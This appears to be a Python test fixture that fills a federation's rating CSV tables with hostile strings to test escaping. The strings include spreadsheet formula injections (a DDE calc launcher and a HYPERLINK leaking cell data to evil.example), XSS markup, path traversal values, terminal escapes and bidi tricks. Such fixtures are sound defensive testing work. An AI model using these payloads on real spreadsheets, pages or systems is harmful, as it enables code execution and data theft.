"""A federation in which every text of every column is out to do harm: in a spreadsheet, a path, a page or a terminal."""

import csv
from collections.abc import Sequence
from pathlib import Path
from typing import Final

FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=Charts!$A$1",
    "+49 171",
    "-12",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\u200b=1+1",
    "\u00a0=2+2",
    "{=1+1}",
    "a;=1+1",
    "a,=1+1",
    'a";"=1+1',
    "'=1+1",
    "_x003D_1+1",
    "<r>rich</r>",
)
PATHS: Final = (
    "../../outside",
    "..\\..\\outside",
    "/outside",
    "..",
    ".",
    "CON",
    "nul.txt",
    "aux",
    "com1.csv",
    "C:outside",
    "index",
    "Index",
    "index.csv",
    "a/b",
    "a\\b",
    "-rf",
    "~",
    "$HOME",
    "manifest.json",
    "%2e%2e%2fx",
    "x" * 300,
    "\U0001f600" * 70,
)
MARKUP: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><style>*{background:url(//evil.example)}",
    "]]><!--",
    "--><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<b>x",
    "http://evil.example/",
    "mailto:x@evil.example",
    "\\\\evil.example\\share",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "$\\mathdefault{x}$",
    "url(#x);fill:red",
    "&lt;b&gt;&amp;&#65;",
    '&A&P&"Arial"',
)
TERMINAL: Final = (
    "\x1b[31mred",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "bell\x07bell",
    "back\x08\x08\x08\x08",
    "zero\x00zero",
    "line\u2028separator",
    "paragraph\u2029separator",
    "next\x85line",
    "delete\x7f",
    "\ufffeno sign\uffff",
)
TURNED: Final = (
    "\u202eevil\u202c",
    "\u2066left open",
    "\u200fmark",
    "שלום",
    "\u200b",
    "\u061c\u200e",
    "\ufeffmark",
)
ALIKE: Final = (
    "Same",
    "SAME",
    "same",
    "ＳＡＭＥ",
    "straße",
    "STRASSE",
    "K",
    "\u212a",
    "e\u0301",
    "\u00e9",
    "ﬁ",
    "fi",
)
"""Texts that are equal ignoring case, or after they are normalised."""

TEXTS: Final = (*FORMULAS, *PATHS, *MARKUP, *TERMINAL, *TURNED, *ALIKE)

_ROUNDS: Final = 3
_EVENTS_OF_GAMES: Final = 4


def write_hostile_texts(folder: Path, texts: Sequence[str] = TEXTS) -> Path:
    """Write the federation's reports: an id, a name, a title, a federation, a club a text, and an event of each.

    Everybody plays in the first events, and two of each other event meet there.
    """
    count = len(texts)
    players = [
        {
            "player_id": text,
            "name": texts[(at + 1) % count],
            "title": texts[(at + 2) % count],
            "federation": texts[(at + 3) % count],
            "club": texts[(at + 4) % count],
            "english_name": texts[(at + 5) % count],
            "sex": "f" if at % 2 else "",
            "birth_date": str(1950 + at % 50),
        }
        for at, text in enumerate(texts)
    ]
    events = [
        {
            "event_id": text,
            "name": texts[(at + 6) % count],
            "place": texts[(at + 7) % count],
            "end_date": f"2026-0{1 + at % 2}-{1 + at % 28:02d}",
        }
        for at, text in enumerate(texts)
    ]
    games = [
        {
            "event_id": texts[event],
            "round": str(round_),
            "white_id": texts[at],
            "black_id": texts[(at + round_) % count],
            "result": result,
        }
        for event in range(_EVENTS_OF_GAMES)
        for round_ in range(1, _ROUNDS + 1)
        for at, result in enumerate((["1-0", "0-1", "1/2-1/2"] * count)[: count - 1])
        if at % (2 * round_) < round_ and at + round_ < count
    ]
    games += [
        {"event_id": text, "round": "1", "white_id": text, "black_id": texts[at - 1], "result": "1-0"}
        for at, text in enumerate(texts)
        if at >= _EVENTS_OF_GAMES
    ]
    openings = [
        {
            "system": "dc-shogi",
            "player_id": text,
            "rank": "",
            "rating": str(1000 + 13 * at),
            "source": texts[(at + 8) % count],
        }
        for at, text in enumerate(texts)
    ]
    corrections = [
        {
            "system": "tca",
            "player_id": text,
            "date": "2026-02-27",
            "change": "1",
            "reason": texts[(at + 60) % count],
        }
        for at, text in enumerate(texts[:8])
    ]
    tables = {
        "players": players,
        "events": events,
        "games": games,
        "openings": openings,
        "corrections": corrections,
    }
    for name, rows in tables.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return folder
